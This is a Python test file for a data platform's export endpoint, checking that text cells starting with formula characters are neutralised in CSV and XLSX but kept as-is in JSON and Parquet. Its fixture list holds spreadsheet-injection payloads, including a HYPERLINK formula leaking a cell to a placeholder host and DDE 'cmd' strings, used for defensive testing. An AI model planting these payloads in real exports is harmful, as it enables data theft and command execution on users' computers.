"""Formula injection in exports meant for spreadsheets: text cells that a spreadsheet would run as a formula (starting
with = + - @, a tab or a carriage return) are neutralised in CSV by default; `raw=true` keeps the bytes; numbers,
JSON and Parquet are never altered; XLSX writes them as text cells. One definition (auzolan.core.spreadsheets) is
shared with the participation CSV exports."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import duckdb
import pytest
from python_calamine import CalamineWorkbook

from auzolan.core import spreadsheets
from tests.catalog.factories import DatasetFactory
from tests.datastore.tabledata import load
from tests.organisations.factories import MembershipFactory

DANGEROUS = [
    '=HYPERLINK("http://x.test/?leak="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["Bayonne", "'déjà protégé", " =espace avant", "1=1"]


@pytest.fixture
def formulas(transactional_db):
    editor = MembershipFactory(role="editor").user
    dataset = DatasetFactory(organisation=editor.memberships.get().organisation, state="published")
    values = DANGEROUS + SAFE
    lines = ["n,texte,montant,quand"]
    for index, value in enumerate(values):
        quoted = '"' + value.replace('"', '""') + '"'
        lines.append(f"{index},{quoted},{-12.5 if index % 2 else 7},2024-01-0{1 + index % 9}")
    resource, table = load(editor, dataset, "\n".join(lines) + "\n", "formules.csv")
    types = {c["name"]: c["type"] for c in table.columns}
    assert types == {"n": "integer", "texte": "text", "montant": "number", "quand": "date"}
    return resource, values


def export(client, resource, **params):
    response = client.get(f"/api/v1/resources/{resource.identifier}/data/export", {"sort": "n", **params})
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def test_shared_definition_of_dangerous_starts():
    assert spreadsheets.FORMULA_PREFIXES == ("=", "+", "-", "@", "\t", "\r")
    assert {value[0] for value in DANGEROUS} == set(spreadsheets.FORMULA_PREFIXES)  # every prefix is tried below
    for value in DANGEROUS:
        assert spreadsheets.is_formula_like(value)
        assert spreadsheets.neutralise(value) == "'" + value
    for value in SAFE:
        assert not spreadsheets.is_formula_like(value)
        assert spreadsheets.neutralise(value) == value
    assert spreadsheets.neutralise("") == ""


def test_csv_export_neutralises_every_dangerous_text_cell(client, formulas):
    resource, values = formulas
    rows = csv_rows(export(client, resource, format="csv"))
    assert rows[0] == ["n", "texte", "montant", "quand"]
    texts = [row[1] for row in rows[1:]]
    assert texts == ["'" + v for v in DANGEROUS] + SAFE
    # numbers and dates are never altered: a negative amount stays a number
    assert [row[2] for row in rows[1:]] == ["7.0" if i % 2 == 0 else "-12.5" for i in range(len(values))]
    assert rows[1][3] == "2024-01-01"


@pytest.mark.parametrize("raw", ["true", "1", "oui"])
def test_raw_option_keeps_the_bytes(client, formulas, raw):
    resource, values = formulas
    rows = csv_rows(export(client, resource, format="csv", raw=raw))
    assert [row[1] for row in rows[1:]] == values


def test_raw_false_is_the_default_and_a_bad_value_is_a_clear_400(client, formulas):
    resource, _values = formulas
    assert csv_rows(export(client, resource, format="csv", raw="false"))[1][1].startswith("'=")
    response = client.get(f"/api/v1/resources/{resource.identifier}/data/export", {"format": "csv", "raw": "peut-être"})
    assert response.status_code == 400
    error = response.json()["error"]
    assert error["field"] == "raw" and "raw" in error["message"] and "true" in error["message"]


def test_filters_sort_and_fields_still_apply_with_neutralisation(client, formulas):
    resource, _values = formulas
    rows = csv_rows(export(client, resource, format="csv", fields="texte", texte__contains="cmd", sort="-n"))
    assert rows == [["texte"], ["'" + DANGEROUS[2]], ["'" + DANGEROUS[1]]]


def test_a_column_name_that_looks_like_a_formula_is_neutralised_in_the_csv_header(client, transactional_db):
    editor = MembershipFactory(role="editor").user
    dataset = DatasetFactory(organisation=editor.memberships.get().organisation, state="published")
    resource, table = load(editor, dataset, "=cmd,b\nx,1\n", "entete.csv")
    name = table.columns[0]["name"]
    assert name.startswith("=")
    assert csv_rows(export(client, resource, format="csv", sort=""))[0] == ["'" + name, "b"]
    assert csv_rows(export(client, resource, format="csv", sort="", raw="true"))[0] == [name, "b"]


def test_json_and_parquet_are_machine_formats_and_keep_the_bytes(client, formulas, tmp_path):
    resource, values = formulas
    data = json.loads(export(client, resource, format="json"))
    assert [row["texte"] for row in data] == values and data[1]["montant"] == -12.5
    target = tmp_path / "x.parquet"
    target.write_bytes(export(client, resource, format="parquet"))
    stored = duckdb.execute("SELECT texte FROM read_parquet(?) ORDER BY n", [str(target)]).fetchall()
    assert [row[0] for row in stored] == values


def test_xlsx_writes_every_dangerous_start_as_a_text_cell(client, formulas):
    resource, values = formulas
    content = export(client, resource, format="xlsx")
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("Données").to_python()
    assert [row[1] for row in rows[1:]] == values  # shown as typed, never run
    assert rows[2][2] == -12.5
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_openapi_documents_the_raw_option(client, db):
    operation = client.get("/api/v1/openapi.json").json()["paths"]["/api/v1/resources/{identifier}/data/export"]["get"]
    names = {p["name"]: p for p in operation["parameters"]}
    assert "raw" in names and "formule" in names["raw"]["description"]
    assert "raw" in operation["description"]
